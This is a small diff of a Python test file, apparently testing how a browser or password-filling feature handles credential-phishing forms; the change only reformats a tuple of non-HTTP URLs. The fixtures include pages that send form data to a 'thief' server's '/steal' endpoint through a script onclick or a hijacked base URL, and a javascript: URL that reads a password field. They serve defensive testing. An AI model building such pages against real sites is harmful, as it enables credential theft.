@@ -170,7 +170,12 @@ PAGES: dict[str, Callable[[Server, Server], bytes]] = {
     "action of a script": lambda thief, _: door(button=f'onclick="{OPTIONS.format(thief.origin + "/steal")}"'),
     "base": lambda thief, _: door(action="steal", head=f'<base href="{thief.origin}/">'),
 }
-NO_ADDRESS = ("javascript:alert(document.forms[0].txtPass.value)", "data:text/html,x", "mailto:a@example.invalid", "file:///x")
+NO_ADDRESS = (
+    "javascript:alert(document.forms[0].txtPass.value)",
+    "data:text/html,x",
+    "mailto:a@example.invalid",
+    "file:///x",
+)
 
 
 @pytest.mark.parametrize("kind", PAGES)
